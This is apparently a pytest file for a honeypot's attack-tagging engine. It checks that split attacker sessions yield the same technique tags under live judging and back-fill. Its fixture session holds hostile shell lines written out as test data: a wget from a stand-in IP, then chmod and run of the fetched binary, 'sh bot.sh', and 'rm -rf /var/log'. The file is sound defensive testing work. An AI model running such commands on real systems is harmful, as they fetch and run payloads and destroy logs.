"""A long session comes in parts: however they come, live judging and back-fill end with what the whole session says."""

from __future__ import annotations

import asyncio
import random
from collections.abc import AsyncIterator, Iterable, Sequence
from dataclasses import replace
from datetime import UTC, datetime
from itertools import pairwise, permutations
from pathlib import Path
from typing import Any

import pytest

from decnet.bus.base import Event
from decnet.bus.null import NullBus
from decnet.config import Settings
from decnet.db.repository import BaseRepository
from decnet.recorder.worker import RecorderWorker
from decnet.runtime.worker import transaction
from decnet.ttp.backfill import run_backfill
from decnet.ttp.parts import forget_parts
from decnet.ttp.store.factory import get_rule_store
from decnet.ttp.worker import TtpWorker
from tests.dbkit import KINDS, open_repo
from tests.integration.test_floods import judging_by
from tests.rowkit import TABLES
from tests.wirekit import taken

EVER = datetime.fromtimestamp(0, UTC), datetime.fromtimestamp(1e9, UTC)
RULES = ("R09*", "R0870_*", "R0101_*", "R0012_*", "R0001_*", "R0047_*", "R0100_*")
LINES = (
    "cd /tmp",
    "./upd8",
    "/var/tmp/upd8",
    "echo 'one",
    "two' > note",
    "wget http://203.0.113.9/upd8",
    "chmod +x upd8",
    "./upd8",
    "uname -a",
    "echo x > /var/tmp/.w",
    "rm -f /var/tmp/.w",
    "sh bot.sh",
    "rm -f upd8 bot.sh",
    "rm -rf /var/log",
)
UPLOADS = [{"filename": "/tmp/bot.sh", "sha256": "ab" * 32, "ts": 11.5}]
DOWNLOADS = [{"url": "http://203.0.113.9/upd8", "sha256": "cd" * 32, "ts": 15.5}]


@pytest.fixture(params=KINDS)
async def repo(request: pytest.FixtureRequest, tmp_path: Path) -> AsyncIterator[BaseRepository]:
    async with open_repo(request.param, tmp_path) as opened:
        yield opened


@pytest.fixture
async def lite(tmp_path: Path) -> AsyncIterator[BaseRepository]:
    async with open_repo("sqlite", tmp_path) as opened:
        yield opened


@pytest.fixture
def settings(tmp_path: Path) -> Settings:
    return judging_by(tmp_path, *RULES)


def parts_of(name: str, cuts: Iterable[int], lines: Sequence[str] = LINES, **more: Any) -> list[Event]:
    """The ends of a session cut before some of its lines; what is no command is in the last one."""
    commands = [
        {"id": f"{name}#cmd{i}", "command_text": line, "ts": 10.0 + i // 2} for i, line in enumerate(lines)
    ]
    places = [0, *sorted(cuts), len(commands)]
    head = {"session_id": name, "attacker_ip": "203.0.113.1", "decky_id": "d", "started_at": 1.0}
    head |= {"ended_at": 9000.0, "command_count": len(lines), "parts": len(places) - 1}
    events = []
    for part, (first, end) in enumerate(pairwise(places), start=1):
        body = {**head, "part": part, "commands": commands[first:end], **more}
        if end == len(commands):
            text = "\n".join(lines[3:5])
            whole = {"id": f"{name}#cmd3+1", "command_text": text, "lines": [f"{name}#cmd3", f"{name}#cmd4"]}
            body |= {"uploads": UPLOADS, "downloads": DOWNLOADS, "joined": [whole] if lines is LINES else []}
        events.append(Event("attacker.session.ended", body, "", f"{name}.{part}of{len(places) - 1}", 9000.0))
    return events


class Engine:
    """A recorder and a judge on one database; each batch is a transaction of its own."""

    def __init__(self, repo: BaseRepository, settings: Settings) -> None:
        self.repo, self.recorder = repo, RecorderWorker(settings)
        self.ttp = TtpWorker(get_rule_store(settings, repo=repo), settings)

    async def __aenter__(self) -> Engine:
        await self.recorder.start(self.repo, NullBus())
        await self.ttp.start(self.repo, NullBus())
        return self

    async def recorder_only(self, batch: Sequence[Event]) -> None:
        async with transaction(self.repo) as tx:
            await self.recorder.handle(taken(batch), tx)

    async def __aexit__(self, *_: object) -> None:
        return None

    async def take(self, *batches: Sequence[Event], recorded: bool = True) -> None:
        for batch in batches:
            for worker in (self.recorder, self.ttp) if recorded else (self.ttp,):
                async with transaction(self.repo) as tx:
                    await worker.handle(taken(batch), tx)


Shown = dict[tuple[str, str, str], Any]


async def shown(repo: BaseRepository, name: str) -> Shown:
    """What stands of a session: source, rule and technique → evidence and time; ids without its name."""
    rows = [row for row in await repo.list_tags(limit=0) if row["session_id"] == name]
    why = await repo.tag_evidence([row["uuid"] for row in rows])
    return {
        (r["source_id"].replace(name, "s"), r["rule_id"], r["sub_technique_id"] or r["technique_id"]): (
            {key: str(value).replace(name, "s") for key, value in why[r["uuid"]].items()},
            r["seen_at"],
        )
        for r in rows
    }


async def forget_tags(repo: BaseRepository) -> None:
    async with repo.db.write() as session:
        for table in ("ttp_tag", "ttp_window_hit", "ttp_window_fire"):
            await session.execute(TABLES[table].delete())


async def the_whole(engine: Engine) -> Shown:
    """What the session says that comes in one event; checked here, so that all of it is worth comparing with."""
    await engine.take(parts_of("whole", ()))
    said = await shown(engine.repo, "whole")
    rules = {(source, rule) for source, rule, _ in said}
    assert {
        ("s#cmd1", "R0906"), ("s#cmd7", "R0901"), ("s#cmd11", "R0902"), ("s#cmd12", "R0908"), ("s#cmd10", "R0915"),
    } <= rules, sorted(rules)  # fmt: skip
    assert said["s#cmd7", "R0901", "T1059.004"][0]["because"].startswith("fetched by line 5: wget")
    assert ("s#cmd10", "R0047") not in rules, "removing a probe is no clean-up: replaced"
    return said


async def test_evidence_of_a_later_part_tags_the_line_of_an_earlier_one(
    repo: BaseRepository, settings: Settings
) -> None:
    async with Engine(repo, settings) as engine:
        first, second = parts_of("s", (3,))
        await engine.take([first], recorded=False)
        assert "R0906" not in {rule for _, rule, _ in await shown(repo, "s")}
        await engine.take([second], recorded=False)
    why, _ = (await shown(repo, "s"))["s#cmd1", "R0906", "T1059.004"]
    assert "upd8" in why["because"], "the recorder has not seen any of it"


async def test_parts_in_any_order_and_again_end_with_what_the_whole_says(
    lite: BaseRepository, settings: Settings
) -> None:
    async with Engine(lite, settings) as engine:
        whole = await the_whole(engine)
        for number, order in enumerate(permutations(range(3))):
            name = f"p{number}"
            parts = parts_of(name, (3, 6))
            await engine.take(*([parts[i]] for i in order), recorded=number % 2 == 0)
            assert await shown(lite, name) == whole, order
            await engine.take(*([parts[i]] for i in reversed(order)), recorded=False)
            assert await shown(lite, name) == whole, ("again", order)


@pytest.mark.slow
async def test_any_cut_in_any_batches_of_three_engines_at_once_ends_with_what_the_whole_says(
    repo: BaseRepository, settings: Settings
) -> None:
    chance = random.Random(14)
    async with Engine(repo, settings) as one, Engine(repo, settings) as two, Engine(repo, settings) as three:
        whole = await the_whole(one)
        for number in range(20):
            name = f"r{number}"
            parts = parts_of(name, chance.sample(range(1, len(LINES)), chance.randint(1, 5)))
            parts += chance.sample(parts, chance.randint(0, len(parts)))
            shares: list[list[list[Event]]] = [[], [], []]
            chance.shuffle(parts)
            while parts:
                size = chance.randint(1, 3)
                chance.choice(shares).append(parts[:size])
                parts = parts[size:]
            both = zip((one, two, three), shares, strict=True)
            await asyncio.gather(*(e.take(*share, recorded=number % 2 == 0) for e, share in both))
            assert await shown(repo, name) == whole, (name, shares)


async def test_back_fill_ends_with_what_live_judging_ended_with(
    repo: BaseRepository, settings: Settings
) -> None:
    async with Engine(repo, settings) as engine:
        whole = await the_whole(engine)
        await engine.take(*([part] for part in reversed(parts_of("s", (3, 8)))))
        await run_backfill(*EVER, repo=repo, settings=settings)
        assert await shown(repo, "s") == whole, "again changes nothing"
        await forget_tags(repo)
        await run_backfill(*EVER, repo=repo, settings=settings)
        assert await shown(repo, "s") == await shown(repo, "whole") == whole


async def test_what_was_judged_in_part_is_put_right_by_back_fill(
    lite: BaseRepository, settings: Settings
) -> None:
    async with Engine(lite, settings) as engine:
        whole = await the_whole(engine)
        first, second, third = parts_of("s", (3, 8))
        await engine.take([second], [third])
        alone = await shown(lite, "s")
        assert alone["s#cmd7", "R0901", "T1059.004"][0]["because"].startswith("fetched by line 3: wget")
        await engine.recorder_only([first])
        await run_backfill(*EVER, repo=lite, settings=settings)
        assert await shown(lite, "s") == whole


async def test_a_rule_that_comes_later_replaces_what_is_stored_and_leaves_it_when_it_goes(
    repo: BaseRepository, tmp_path: Path
) -> None:
    before = judging_by(tmp_path / "before", *(name for name in RULES if name != "R09*"), "R0920_*")
    after = judging_by(tmp_path / "after", *RULES)
    async with Engine(repo, before) as old:
        await old.take(*([part] for part in parts_of("s", (3, 8))))
        assert ("s#cmd10", "R0047", "T1070.004") in (said := await shown(repo, "s"))
    report = await run_backfill(*EVER, ["R0047"], repo=repo, settings=after)
    assert (report.replaced, report.superseded) == (1, 0)
    assert ("s#cmd10", "R0047", "T1070.004") not in await shown(repo, "s"), "what replaces goes along"
    await run_backfill(*EVER, repo=repo, settings=after)
    fresh = await shown(repo, "s")
    await forget_tags(repo)
    await run_backfill(*EVER, repo=repo, settings=after)
    assert await shown(repo, "s") == fresh
    await forget_tags(repo)
    await run_backfill(*EVER, repo=repo, settings=before)
    assert await shown(repo, "s") == said
    async with Engine(repo, after) as new:
        await new.take(*([part] for part in parts_of("s", (3, 8))))
        assert await shown(repo, "s") == fresh, "live judging marks what is stored too"
        assert new.ttp.health()["tags_replaced_later"] == 1
    await run_backfill(*EVER, repo=repo, settings=before)
    assert ("s#cmd10", "R0047", "T1070.004") in await shown(repo, "s"), "nothing replaces it any more"


async def test_back_fill_of_one_rule_leaves_the_tags_of_others_as_they_are(
    lite: BaseRepository, tmp_path: Path
) -> None:
    before = judging_by(tmp_path / "before", *(name for name in RULES if name != "R09*"))
    async with Engine(lite, before) as old:
        await old.take(parts_of("s", ()))
    said = await shown(lite, "s")
    await run_backfill(*EVER, ["R0001"], repo=lite, settings=judging_by(tmp_path / "after", *RULES))
    left = await shown(lite, "s")
    assert said.items() <= left.items()
    assert ("s#cmd10", "R0047", "T1070.004") in left


async def test_the_close_of_a_session_puts_right_what_an_earlier_end_of_it_said(
    lite: BaseRepository, settings: Settings
) -> None:
    _, without_its_first_line = parts_of("s", (1,), lines=LINES[5:])
    payload = {**without_its_first_line.payload, "part": 1, "parts": 1, "end_reason": "idle"}
    (closed,) = parts_of("s", (), lines=LINES[5:], end_reason="closed", ended_at=9001.0)
    async with Engine(lite, settings) as engine:
        await engine.take([closed])
        said = await shown(lite, "s")
        assert said["s#cmd2", "R0901", "T1059.004"][0]["because"].startswith("fetched by line 1: wget")
        await forget_tags(lite)
        await engine.take([replace(closed, payload=payload)], recorded=False)
        assert ("s#cmd2", "R0905", "T1059.004") in await shown(lite, "s"), "who put it there is not known yet"
        await engine.take([closed], recorded=False)
        assert await shown(lite, "s") == said
        torn = replace(closed, payload={**payload, "end_reason": "closed", "torn": True})
        await engine.take([torn], recorded=False)
        assert said.items() <= (await shown(lite, "s")).items(), "what lost its beginning takes nothing away"


async def test_parts_are_forgotten_when_nobody_waits_for_them_any_longer(
    repo: BaseRepository, settings: Settings
) -> None:
    async with Engine(repo, settings) as engine:
        await engine.take([parts_of("s", (3, 8))[0]])
        await forget_parts(repo)
        assert len(await repo.parts_to_judge(["s"])) == 1
        async with repo.db.write() as session:
            await session.execute(TABLES["ttp_part"].update().values(keep_until=1.0))
        await forget_parts(repo)
        assert await repo.parts_to_judge(["s"]) == []
